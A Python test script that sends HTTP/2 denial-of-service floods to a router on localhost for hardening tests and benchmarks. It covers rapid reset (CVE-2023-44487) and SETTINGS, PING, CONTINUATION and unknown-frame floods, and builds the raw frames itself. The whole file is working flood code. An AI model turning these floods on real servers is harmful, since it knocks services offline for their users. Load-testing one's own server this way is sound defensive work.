#!/usr/bin/env python3
"""HTTP/2 floods against a local router, for the hardening and limits tests and the benchmark. Raw frames
on a plain socket (h2c prior knowledge); python3 standard library only. Each connection sends its
frames in bursts as fast as it can, reads and discards whatever the server sends, and reconnects when
the server closes it. --attack picks the frames:

  reset         HEADERS + DATA (END_STREAM) + RST_STREAM(CANCEL) for new streams (rapid reset,
                CVE-2023-44487)
  settings      SETTINGS frames (one setting each), each of which the server must acknowledge
  ping          PING frames, each of which the server must answer
  continuation  one HEADERS without END_HEADERS, then empty CONTINUATION frames without end (the 2024
                CONTINUATION-flood class: the header block never grows, so a size limit never trips)
  unknown       16 KB frames of an unknown type (0xfa), which a server must ignore (RFC 9113 4.1)

    python3 h2flood.py PORT [--attack reset] [--connections 4] [--seconds 20] [--burst 100]

prints one JSON line: streams sent, connections opened, connections the server closed (EOF, reset, or
GOAWAY), and GOAWAY error codes seen.
"""

import argparse
import json
import socket
import struct
import sys
import threading
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
BODY = json.dumps({"text": "The capital of France is", "sampling_params": {"max_new_tokens": 4}}).encode()


def frame(ftype, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([ftype, flags]) + struct.pack(">I", stream) + payload


def hpack_literal(index, value):
    """A literal header field without indexing, with an indexed name (RFC 7541 6.2.2), raw string."""
    out = bytearray()
    if index < 15:
        out.append(index)
    else:
        out += bytes([0x0F, index - 15])
    v = value.encode()
    assert len(v) < 127
    out.append(len(v))
    out += v
    return bytes(out)


def request_block(path="/generate"):
    # :method POST (static 3), :scheme http (static 6), :path, :authority, content-type (static 31).
    return bytes([0x83, 0x86]) + hpack_literal(4, path) + hpack_literal(1, "x") + \
        hpack_literal(31, "application/json")


def stream_frames(stream_id, block):
    return (frame(1, 0x4, stream_id, block) + frame(0, 0x1, stream_id, BODY) +
            frame(3, 0, stream_id, struct.pack(">I", 8)))


class Stats:
    def __init__(self):
        self.lock = threading.Lock()
        self.streams = 0
        self.connections = 0
        self.closed_by_server = 0
        self.goaway = {}


def drain(sock, st, done):
    """Reads and discards what the server sends; records GOAWAY codes; sets done at EOF or error."""
    buf = b""
    try:
        while True:
            b = sock.recv(1 << 16)
            if not b:
                break
            buf += b
            while len(buf) >= 9:
                n = int.from_bytes(buf[:3], "big")
                if len(buf) < 9 + n:
                    break
                if buf[3] == 7 and n >= 8:
                    code = int.from_bytes(buf[13:17], "big")
                    with st.lock:
                        st.goaway[code] = st.goaway.get(code, 0) + 1
                buf = buf[9 + n:]
    except OSError:
        pass
    done.set()


def one_connection(port, st, deadline, burst, max_streams):
    s = socket.create_connection(("127.0.0.1", port))
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    done = threading.Event()
    reader = threading.Thread(target=drain, args=(s, st, done), daemon=True)
    reader.start()
    block = request_block()
    sent = 0
    try:
        s.sendall(PREFACE + frame(4, 0, 0))
        sid = 1
        while time.monotonic() < deadline and not done.is_set() and sid < (1 << 31) - 2 * burst and \
                (max_streams == 0 or sent < max_streams):
            out = b"".join(stream_frames(sid + 2 * i, block) for i in range(burst))
            sid += 2 * burst
            s.sendall(out)
            sent += burst
    except OSError:
        pass
    return finish_connection(s, st, done, sent)


def finish_connection(s, st, done, sent):
    """Counts a flooding connection's frames and whether the router closed it (within 2 s of the flood's
    end), then closes it; returns that."""
    with st.lock:
        st.streams += sent
        st.connections += 1
    closed = done.wait(2.0)
    with st.lock:
        if closed:
            st.closed_by_server += 1
    s.close()
    return closed


def control_burst(attack, burst, first):
    """The bytes of one burst of a control-frame attack (first: the connection's first burst)."""
    if attack == "settings":
        return frame(4, 0, 0, struct.pack(">HI", 0x4, 65535)) * burst  # SETTINGS_INITIAL_WINDOW_SIZE
    if attack == "ping":
        return frame(6, 0, 0, b"12345678") * burst
    if attack == "unknown":
        return frame(0xFA, 0, 0, b"u" * 16384) * burst
    out = frame(1, 0x1, 1, request_block()) if first else b""  # HEADERS, END_STREAM, no END_HEADERS
    return out + frame(9, 0, 1) * burst


def control_connection(port, st, deadline, burst, attack):
    s = socket.create_connection(("127.0.0.1", port))
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    done = threading.Event()
    reader = threading.Thread(target=drain, args=(s, st, done), daemon=True)
    reader.start()
    sent = 0
    try:
        s.sendall(PREFACE + frame(4, 0, 0))
        while time.monotonic() < deadline and not done.is_set():
            s.sendall(control_burst(attack, burst, sent == 0))
            sent += burst
    except OSError:
        pass
    return finish_connection(s, st, done, sent)


def flood(port, connections=4, seconds=20.0, burst=100, max_streams_per_conn=0, attack="reset"):
    """Runs the flood; returns a dict of what was sent and seen ("streams": frames sent for the
    control-frame attacks)."""
    st = Stats()
    deadline = time.monotonic() + seconds

    def worker():
        while time.monotonic() < deadline:
            if attack == "reset":
                one_connection(port, st, deadline, burst, max_streams_per_conn)
            else:
                control_connection(port, st, deadline, burst, attack)
    ts = [threading.Thread(target=worker) for _ in range(connections)]
    t0 = time.monotonic()
    for t in ts:
        t.start()
    for t in ts:
        t.join()
    took = time.monotonic() - t0
    return {"streams": st.streams, "seconds": round(took, 2), "streams_per_s": int(st.streams / took),
            "connections": st.connections, "closed_by_server": st.closed_by_server,
            "goaway_codes": st.goaway}


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("port", type=int)
    ap.add_argument("--connections", type=int, default=4)
    ap.add_argument("--seconds", type=float, default=20.0)
    ap.add_argument("--burst", type=int, default=100)
    ap.add_argument("--attack", choices=("reset", "settings", "ping", "continuation", "unknown"), default="reset")
    a = ap.parse_args()
    print(json.dumps(flood(a.port, a.connections, a.seconds, a.burst, attack=a.attack)))
    return 0


if __name__ == "__main__":
    sys.exit(main())
